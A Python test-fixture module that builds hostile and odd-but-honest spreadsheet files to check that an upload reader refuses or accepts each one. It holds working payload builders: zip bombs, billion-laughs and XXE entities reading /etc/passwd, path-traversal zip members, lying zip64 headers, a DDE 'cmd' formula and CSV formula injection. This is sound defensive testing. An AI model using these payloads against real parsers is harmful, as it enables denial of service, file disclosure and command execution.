"""Workbooks made to hurt, and honest ones that look strange: what each of them must get."""

# ruff: noqa: E501  (one file a line reads as a table)

import io
import random
import struct
import warnings
import zipfile

import openpyxl

SHEET = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def honest(rows=3, **more):
    """A small list of units as an office would send it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = more.get("title", "DS CĐCS")
    sheet.append(["STT", "Tên CĐCS", "Đoàn viên"])
    for number in range(1, rows + 1):
        sheet.append([number, f"CĐCS Công ty số {number}", 40 + number])
    if "change" in more:
        more["change"](book, sheet)
    return saved(book)


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data, *, replace=(), add=(), drop=(), method=zipfile.ZIP_DEFLATED):
    """The zip with parts changed: `replace` maps names to functions of their bytes, `add` are new parts."""
    out = io.BytesIO()
    replace, add = dict(replace), dict(add)
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            if name not in drop:
                content = old.read(name)
                new.writestr(name, replace[name](content) if name in replace else content)
        for name, content in add.items():
            new.writestr(name, content)
    return out.getvalue()


def in_sheet(old, new):
    return repacked(honest(), replace={SHEET: lambda content: content.replace(old.encode(), new.encode())})


def cells(text):
    """An honest workbook with more cells in its sheet, as XML."""
    return in_sheet("</sheetData>", f"{text}</sheetData>")


def sheet_of(text):
    return repacked(honest(), replace={SHEET: lambda content: text.encode()})


def with_part(name, content=b"x"):
    return repacked(honest(), add={name: content})


def zip_of(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def flag_encrypted(data):
    """The bit that says a member is encrypted, in every header."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + offset] |= 1
            place = changed.find(mark, place + 4)
    return bytes(changed)


def declared_size(data, size):
    """The central directory lies about the size of every member."""
    changed = bytearray(data)
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + 24 : place + 28] = size.to_bytes(4, "little")
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def laughs(entity):
    lines = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return HEAD + f'<!DOCTYPE x [<!ENTITY l0 "ha">{"".join(lines)}]><{entity} {MAIN}>&l9;</{entity}>'


def many_sheets(count):
    book = openpyxl.Workbook(write_only=True)
    for number in range(count):
        book.create_sheet(f"S{number}").append([number])
    return saved(book)


def thousands_of_sheets(count):
    """As `many_sheets`, written by hand: openpyxl needs half a minute for five thousand."""
    empty = f"{HEAD}<worksheet {MAIN}><sheetData/></worksheet>"
    named = "".join(f'<sheet name="T{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, count + 1))
    space = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="worksheets/t{n}.xml"/>' for n in range(1, count + 1)
    )
    relations = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    parts = {
        "xl/workbook.xml": f"{HEAD}<workbook {MAIN} {space}><sheets>{named}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f"{HEAD}<Relationships {relations}>{related}</Relationships>",
        **{f"xl/worksheets/t{n}.xml": empty for n in range(1, count + 1)},
    }
    return zip_of(**parts)


def zip64(data):
    """The same workbook in the format of archives over 4 GB: sizes in extra fields, a second end of directory."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            with new.open(name, "w", force_zip64=True) as part:
                part.write(old.read(name))
    data = out.getvalue()
    place = data.rindex(b"PK\x05\x06")
    *_, total, size, offset = struct.unpack("<HHHHLL", data[place + 4 : place + 20])
    end = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, total, total, size, offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, place, 1)
    short = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:place] + end + locator + short


def lying_zip64(data):
    """Its second directory says that there are exabytes."""
    changed = bytearray(zip64(data))
    place = changed.rindex(b"PK\x06\x06")
    changed[place + 24 : place + 56] = (2**62).to_bytes(8, "little") * 4
    return bytes(changed)


def duplicate_member():
    out = io.BytesIO(honest())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as opened:
            opened.writestr(SHEET, b"<worksheet/>")
    return out.getvalue()


def ods(content, mimetype=b"application/vnd.oasis.opendocument.spreadsheet"):
    head = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    head += 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    head += 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>'
    tail = "</office:spreadsheet></office:body></office:document-content>"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = {"mimetype": mimetype, "META-INF/manifest.xml": HEAD + manifest}
    return zip_of(**parts, **{"content.xml": HEAD + head + content + tail})


ODS_TABLE = (
    '<table:table table:name="DS"><table:table-row><table:table-cell office:value-type="string"><text:p>Tên CĐCS</text:p>'
    "</table:table-cell></table:table-row></table:table>"
)


def formulas(change):
    return honest(change=lambda book, sheet: change(sheet))


def set_1904(book, sheet):
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book.epoch = CALENDAR_MAC_1904


def hide(book, sheet):
    sheet.row_dimensions[3].hidden = True
    sheet.column_dimensions["C"].hidden = True
    book.create_sheet("Ẩn").sheet_state = "hidden"


def merge_titles(book, sheet):
    sheet.insert_rows(1)
    sheet["A1"] = "DANH SÁCH CĐCS"
    sheet.merge_cells("A1:XFD1")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def bomb():
    return b"<worksheet>" + b" " * (101 * 2**20)


def corpus():
    """{name: (file name, what makes its bytes, "refused" or "read")}, over the families of RELIABILITY T9."""
    lie = '<dimension ref="A1:XFD1048576"/>'
    giant = "".join(f'<mergeCell ref="A{n}:XFD{n + 1}"/>' for n in range(1, 400, 2))
    names = "".join(f'<definedName name="n{n}">A1</definedName>' for n in range(60_000))
    styles = "<xf/>" * 300_000
    wide = "".join(f'<c r="{openpyxl.utils.get_column_letter(n)}9"><v>1</v></c>' for n in range(1, 120))
    return {
        # bombs
        "bomb in a sheet": ("a.xlsx", lambda: repacked(honest(), replace={SHEET: lambda _: bomb()}), "refused"),
        "bomb in shared strings": ("a.xlsx", lambda: with_part("xl/sharedStrings2.xml", b"<a>" + b"a" * (101 * 2**20)), "refused"),
        "bomb in a picture": ("a.xlsx", lambda: with_part("xl/media/a.png", bytes(101 * 2**20)), "refused"),
        "nested zip": ("a.xlsx", lambda: with_part("xl/inner.zip", repacked(honest(), replace={SHEET: lambda _: bomb()})), "read"),
        # entities
        "laughs in the sheet": ("a.xlsx", lambda: sheet_of(laughs("worksheet")), "refused"),
        "laughs in the workbook": ("a.xlsx", lambda: repacked(honest(), replace={"xl/workbook.xml": lambda _: laughs("workbook").encode()}), "refused"),
        "laughs in styles": ("a.xlsx", lambda: repacked(honest(), replace={"xl/styles.xml": lambda _: laughs("styleSheet").encode()}), "refused"),
        "laughs in core properties": ("a.xlsx", lambda: repacked(honest(), replace={"docProps/core.xml": lambda _: laughs("x").encode()}), "refused"),
        "laughs in UTF-16": ("a.xlsx", lambda: repacked(honest(), replace={SHEET: lambda _: laughs("worksheet").replace("UTF-8", "UTF-16").encode("utf-16")}), "refused"),
        "foreign file": ("a.xlsx", lambda: sheet_of(f'{HEAD}<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet {MAIN}>&f;</worksheet>'), "refused"),
        "foreign address": ("a.xlsx", lambda: sheet_of(f'{HEAD}<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><worksheet {MAIN}/>'), "refused"),
        "small doctype": ("a.xlsx", lambda: sheet_of(f"{HEAD}<!doctype x><worksheet {MAIN}/>"), "refused"),
        "entity in relations": ("a.xlsx", lambda: repacked(honest(), replace={"xl/_rels/workbook.xml.rels": lambda c: b'<!DOCTYPE x [<!ENTITY a "b">]>' + c}), "refused"),
        # sizes that lie or go far
        "dimension lie": ("a.xlsx", lambda: repacked(honest(), replace={SHEET: lambda c: c.replace(b'<dimension ref="A1:C4"/>', lie.encode()).replace(b'<dimension ref="A1:C4" />', lie.encode())}), "read"),
        "dimension that is none": ("a.xlsx", lambda: in_sheet('ref="A1:C4"', 'ref="??"'), "either"),
        "far cell": ("a.xlsx", lambda: cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "refused"),
        "far row": ("a.xlsx", lambda: cells('<row r="900000"><c r="A900000"><v>1</v></c></row>'), "refused"),
        "far column": ("a.xlsx", lambda: cells('<row r="9"><c r="ZZ9"><v>1</v></c></row>'), "refused"),
        "row beyond Excel": ("a.xlsx", lambda: cells('<row r="9999999"><c r="A9999999"><v>1</v></c></row>'), "refused"),
        "row zero": ("a.xlsx", lambda: cells('<row r="0"><c r="A0"><v>1</v></c></row>'), "either"),
        "row below zero": ("a.xlsx", lambda: cells('<row r="-1"><c r="A-1"><v>1</v></c></row>'), "either"),
        "too many columns": ("a.xlsx", lambda: cells(f'<row r="9">{wide}</row>'), "refused"),
        "empty styled cells far away": ("a.xlsx", lambda: cells('<row r="60000"><c r="XFD60000" s="0"/></row>'), "read"),
        "giant merges": ("a.xlsx", lambda: in_sheet("</sheetData>", f'</sheetData><mergeCells count="1">{giant}</mergeCells>'), "read"),
        "one merge over everything": ("a.xlsx", lambda: in_sheet("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "read"),
        "merge that is none": ("a.xlsx", lambda: in_sheet("</sheetData>", '</sheetData><mergeCells><mergeCell ref="hello"/></mergeCells>'), "either"),
        # too much of something
        "five thousand sheets": ("a.xlsx", lambda: thousands_of_sheets(5000), "refused"),
        "nineteen hundred sheets": ("a.xlsx", lambda: thousands_of_sheets(1900), "refused"),
        "sixty sheets": ("a.xlsx", lambda: many_sheets(60), "refused"),
        "many names": ("a.xlsx", lambda: repacked(honest(), replace={"xl/workbook.xml": lambda c: c.replace(b"</workbook>", f"<definedNames>{names}</definedNames></workbook>".encode())}), "refused"),
        "many styles": ("a.xlsx", lambda: repacked(honest(), replace={"xl/styles.xml": lambda c: c.replace(b"</cellXfs>", f"{styles}</cellXfs>".encode())}), "refused"),
        "many rows": ("a.xlsx", lambda: honest(rows=20_500), "refused"),
        "long text": ("a.xlsx", lambda: honest(change=lambda book, sheet: sheet.append([1, "ơ" * 2500])), "refused"),
        "many parts": ("a.xlsx", lambda: repacked(honest(), add={f"xl/media/{n}.txt": b"" for n in range(2100)}), "refused"),
        # zips
        "encrypted members": ("a.xlsx", lambda: flag_encrypted(honest()), "refused"),
        "two members of one name": ("a.xlsx", lambda: duplicate_member(), "refused"),
        "member above": ("a.xlsx", lambda: with_part("../../etc/cron.d/x"), "refused"),
        "member from the root": ("a.xlsx", lambda: with_part("/etc/passwd"), "refused"),
        "member of Windows": ("a.xlsx", lambda: with_part("..\\..\\x.dll"), "refused"),
        "declared too small": ("a.xlsx", lambda: declared_size(honest(), 10), "refused"),
        "declared too large": ("a.xlsx", lambda: declared_size(honest(), 2**31), "refused"),
        "cut in half": ("a.xlsx", lambda: honest()[: len(honest()) // 2], "refused"),
        "only the signature": ("a.xlsx", lambda: b"PK\x03\x04", "refused"),
        "a zip of something else": ("a.xlsx", lambda: zip_of(**{"readme.txt": "xin chào"}), "refused"),
        "a Word file": ("a.xlsx", lambda: zip_of(**{"word/document.xml": "<w/>", "[Content_Types].xml": "<Types/>"}), "refused"),
        "xlsb renamed": ("a.xlsx", lambda: zip_of(**{"xl/workbook.bin": b"\x00", "[Content_Types].xml": "<Types/>"}), "refused"),
        "zip64": ("a.xlsx", lambda: zip64(honest()), "read"),
        "zip64 that lies": ("a.xlsx", lambda: lying_zip64(honest()), "refused"),
        "stored, not packed": ("a.xlsx", lambda: repacked(honest(), method=zipfile.ZIP_STORED), "read"),
        # things that act
        "macros": ("a.xlsm", lambda: with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"), "read"),
        "external links": ("a.xlsx", lambda: with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "read"),
        "data connections": ("a.xlsx", lambda: with_part("xl/connections.xml", b"<connections/>"), "read"),
        "embedded object": ("a.xlsx", lambda: with_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "read"),
        "ActiveX": ("a.xlsx", lambda: with_part("xl/activeX/activeX1.bin"), "read"),
        "DDE formula": ("a.xlsx", lambda: formulas(lambda sheet: sheet.append([1, "=cmd|'/c calc'!A1"])), "read"),
        "HYPERLINK formula": ("a.xlsx", lambda: formulas(lambda sheet: sheet.append([1, '=HYPERLINK("http://x/"&A2)'])), "read"),
        "text that begins as a formula": ("a.csv", lambda: "Tên CĐCS\n=1+1\n@SUM(1)\n".encode(), "read"),
        # old and other formats
        "locked workbook": ("a.xlsx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(5000), "refused"),
        "an .xls that is none": ("a.xls", lambda: OLE + bytes(5000), "refused"),
        "an .xls cut off": ("a.xls", lambda: OLE, "refused"),
        "a web page as .xls": ("a.xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>", "refused"),
        "XML as .xls": ("a.xls", lambda: b'<?xml version="1.0"?><Workbook/>', "refused"),
        "a picture": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "refused"),
        "a PDF": ("a.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(300), "refused"),
        "nothing": ("a.xlsx", lambda: b"", "refused"),
        "spaces": ("a.csv", lambda: b"   \n  \n", "refused"),
        "NUL in text": ("a.csv", lambda: b"a,b\x00c\n", "refused"),
        "an honest .ods": ("a.ods", lambda: ods(ODS_TABLE), "read"),
        "laughs in .ods": ("a.ods", lambda: zip_of(**{"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": laughs("x")}), "refused"),
        "repeated cells in .ods": ("a.ods", lambda: ods(ODS_TABLE.replace("<table:table-cell", '<table:table-cell table:number-columns-repeated="1638400"')), "refused"),
        "a long line of quotes": ("a.csv", lambda: b'"' * 200_000, "either"),
        "many columns in .csv": ("a.csv", lambda: b"a," * 100 + b"\n", "refused"),
        # strange but honest
        "calendar of 1904": ("a.xlsx", lambda: honest(change=set_1904), "read"),
        "hidden things": ("a.xlsx", lambda: honest(change=hide), "read"),
        "title over every column": ("a.xlsx", lambda: honest(change=merge_titles), "read"),
        "numbers as text": ("a.xlsx", lambda: honest(change=lambda book, sheet: sheet.append(["'1", "CĐCS", "1.500"])), "read"),
        "an emoji and an old letter": ("a.xlsx", lambda: honest(change=lambda book, sheet: sheet.append([1, "CĐCS 🌸 \u202eabc", 2])), "read"),
        "UTF-16 .csv": ("a.csv", lambda: "Tên CĐCS;Đoàn viên\nCĐCS Mai;12\n".encode("utf-16"), "read"),
    }  # fmt: skip


def mutants(count):
    """Honest and hostile files with bytes, parts or XML bent at random."""
    chance = random.Random(2026)
    seeds = [honest(), honest(change=hide), many_sheets(3), ods(ODS_TABLE)]
    for number in range(count):
        data = seeds[number % len(seeds)]
        yield (_bent_bytes, _bent_part, _bent_xml)[number % 3](data, chance)


def _bent_bytes(data, chance):
    changed = bytearray(data)
    for _ in range(chance.randint(1, 40)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed[: chance.randint(len(changed) // 2, len(changed))])


def _bent_part(data, chance):
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    name = chance.choice(names)
    if chance.random() < 0.5:
        return repacked(data, drop=[name])
    return repacked(data, replace={name: lambda _: chance.randbytes(chance.randint(0, 3000))})


def _bent_xml(data, chance):
    names = [name for name in zipfile.ZipFile(io.BytesIO(data)).namelist() if name.endswith(".xml")]

    def bend(content):
        text = content.decode("utf-8", "replace")
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(max(1, len(text)))
            piece = chance.choice(
                ['"', "<", "</", "&", "]]>", 'r="ZZ1"', "9" * 20, "<c>", "\u0000", text[place : place + 40]]
            )
            text = text[:place] + piece + text[place + chance.randint(0, 10) :]
        return text.encode("utf-8", "replace")

    return repacked(data, replace={chance.choice(names): bend})
